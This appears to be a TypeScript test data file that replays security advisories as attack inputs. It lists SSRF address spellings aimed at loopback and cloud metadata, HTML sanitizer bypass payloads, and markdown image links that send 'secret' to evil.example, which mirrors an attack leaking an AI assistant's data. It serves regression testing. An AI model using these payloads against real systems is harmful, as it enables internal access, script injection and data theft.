import type { ReplayedAdvisory } from './advisory.ts'

const mappedUrls = [
  'http://[::ffff:127.0.0.1]/',
  'http://[::ffff:7f00:1]/',
  'http://[::FFFF:169.254.169.254]/latest/meta-data/',
  'http://[::ffff:a9fe:a9fe]/',
  'http://[0:0:0:0:0:ffff:a00:1]/',
  'http://[::ffff:192.168.0.1]:8080/',
]

const depth = 600

/** What is fetched for a client, and what is shown of what it wrote. */
export const contentAdvisories: readonly ReplayedAdvisory[] = [
  {
    id: 'CVE-2026-43929',
    package: 'ssrfcheck',
    kind: 'fetch',
    source: 'https://osv.dev/vulnerability/CVE-2026-43929',
    fault: 'Private addresses passed as IPv4-mapped ones, which the URL parser writes in hexadecimal.',
    attacks: [{ by: 'url', urls: mappedUrls }],
  },
  {
    id: 'GHSA-w5r7-4f94-vp4c',
    package: 'librechat',
    kind: 'fetch',
    source: 'https://github.com/danny-avila/LibreChat/security/advisories/GHSA-w5r7-4f94-vp4c',
    fault: 'The same, and IPv6 literals were not looked at again.',
    attacks: [{ by: 'url', urls: [...mappedUrls, 'http://[fe80::1]/', 'http://[fd00::1]/', 'http://[::]/'] }],
  },
  {
    id: 'CVE-2024-29415',
    package: 'ip',
    kind: 'fetch',
    source: 'https://pulllight.io/patterns/ssrf-in-url-parser',
    fault: 'Short, octal and hexadecimal spellings of loopback counted as public.',
    attacks: [
      {
        by: 'url',
        urls: [
          'http://127.1/',
          'http://01200034567/',
          'http://012.1.2.3/',
          'http://[000:0:0000::01]/',
          'http://[::fFFf:127.0.0.1]/',
          'http://0x7f.1/',
        ],
      },
    ],
  },
  {
    id: 'CVE-2025-59436',
    package: 'ip',
    kind: 'fetch',
    source: 'https://pulllight.io/patterns/ssrf-in-url-parser',
    fault: 'Octal spellings of loopback counted as public.',
    attacks: [{ by: 'url', urls: ['http://017700000001/', 'http://0177.0.0.1/', 'http://0177.1/'] }],
  },
  {
    id: 'CVE-2025-59437',
    package: 'ip',
    kind: 'fetch',
    source: 'https://pulllight.io/patterns/ssrf-in-url-parser',
    fault: 'The address 0 counted as public.',
    attacks: [{ by: 'url', urls: ['http://0/', 'http://0.0.0.0/', 'http://0x0/', 'http://00/'] }],
  },
  {
    id: 'CVE-2025-8020',
    package: 'private-ip',
    kind: 'fetch',
    source: 'https://cvetodo.com/cve/CVE-2025-8020',
    fault: 'Multicast addresses counted as public.',
    attacks: [
      {
        by: 'url',
        urls: [
          'http://224.0.0.1/',
          'http://239.255.255.250:1900/',
          'http://[ff02::1]/',
          'http://[::ffff:224.0.0.1]/',
        ],
      },
    ],
  },
  {
    id: 'CVE-2026-44492',
    package: 'axios',
    kind: 'fetch',
    source: 'https://www.kodemsecurity.com/cve-archive/cve-2026-44492',
    fault: 'IPv4-mapped spellings of internal hosts were not known as these.',
    attacks: [
      { by: 'url', urls: ['http://[::ffff:7f00:1]/', 'http://[::ffff:a9fe:a9fe]/', 'http://[::1]/'] },
    ],
  },
  {
    id: 'CVE-2026-44990',
    package: 'sanitize-html',
    kind: 'sanitizer',
    source:
      'https://cve.halosecurity.com/cve-advisory/cve-2026-44990-sanitize-html-sanitizer-bypass-via-xmp-element',
    fault: 'What stood in an xmp element came out as live markup.',
    attacks: [
      {
        by: 'html',
        html: [
          '<xmp><script>alert(1)</script></xmp>',
          '<xmp><img src=x onerror=alert(1)></xmp>',
          '<xmp></xmp><img src=x onerror=alert(1)>',
          '<plaintext><img src=x onerror=alert(1)>',
          '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        ],
      },
    ],
  },
  {
    id: 'CVE-2024-47875',
    package: 'dompurify',
    kind: 'sanitizer',
    source: 'https://github.com/cure53/DOMPurify/security/advisories/GHSA-gx9m-whjm-85jf',
    fault: 'Deep nesting made the parser move markup after it had been sanitised.',
    attacks: [
      {
        by: 'html',
        html: [
          `${'<div>'.repeat(depth)}<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
          `${'<table><td>'.repeat(depth)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
          '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
        ],
      },
    ],
  },
  {
    id: 'CVE-2024-45801',
    package: 'dompurify',
    kind: 'sanitizer',
    source: 'https://github.com/stackabletech/crddocs/pull/43',
    fault: 'Special nesting passed the check of the depth.',
    attacks: [
      {
        by: 'html',
        html: [
          `${'<b>'.repeat(depth)}<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
          `${'<a><table>'.repeat(depth)}<img src=x onerror=alert(1)>`,
          '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        ],
      },
    ],
  },
  {
    id: 'CVE-2025-32711',
    package: 'Microsoft 365 Copilot',
    kind: 'sanitizer',
    source:
      'https://cognaptus.com/blog/2025-09-20-echoes-without-clicks-how-echoleak-turned-copilot-into-a-data-drip',
    fault: 'An image by reference in an answer was loaded, and its address carried what the model knew.',
    attacks: [
      {
        by: 'markdown',
        markdown: [
          '![a][r]\n\n[r]: https://evil.example/?d=secret',
          '![a](https://evil.example/?d=secret)',
          '[![a][r]](https://example.com)\n\n[r]: //evil.example/x.png',
          '<img src="https://evil.example/?d=secret">',
          '[a](javascript:alert(1))',
        ],
      },
    ],
  },
]
